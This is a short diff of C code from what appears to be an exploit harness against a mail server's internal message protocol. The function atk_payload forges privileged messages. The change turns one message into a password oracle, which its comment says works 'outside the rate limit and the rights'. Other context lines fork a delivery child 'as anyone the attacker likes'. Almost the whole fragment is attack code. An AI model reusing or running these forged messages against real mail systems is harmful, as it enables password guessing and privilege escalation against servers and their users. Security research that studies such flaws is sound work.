@@ -275,7 +275,10 @@ static void atk_payload(struct msg *m, uint32_t type, uint64_t victim)
 	case M_DELIVERED: msg_u64(m, victim); msg_u64(m, 0); msg_u64(m, D_OK); msg_str(m, "evil"); break;
 	case M_ROUTE: msg_str(m, "postmaster@localhost"); msg_str(m, ""); break;
 	case M_MAIL_CHECK: msg_str(m, ""); break;
-	case M_EXPLAIN: msg_str(m, "postmaster@localhost"); msg_u64(m, EXPLAIN_DIRECTORY); break;
+	case M_EXPLAIN:           /* a password oracle, outside the rate limit and the rights */
+		msg_str(m, "postmaster@localhost"); msg_u64(m, EXPLAIN_DIRECTORY | EXPLAIN_PASSWORD);
+		msg_str(m, "guess");
+		break;
 	case M_FORK_LOCAL:        /* a delivery child as anyone the attacker likes */
 		msg_u64(m, 1); msg_u64(m, 65534); msg_u64(m, 65534); msg_str(m, "/");
 		msg_u64(m, 2); msg_str(m, "tern-local"); msg_str(m, "-c");
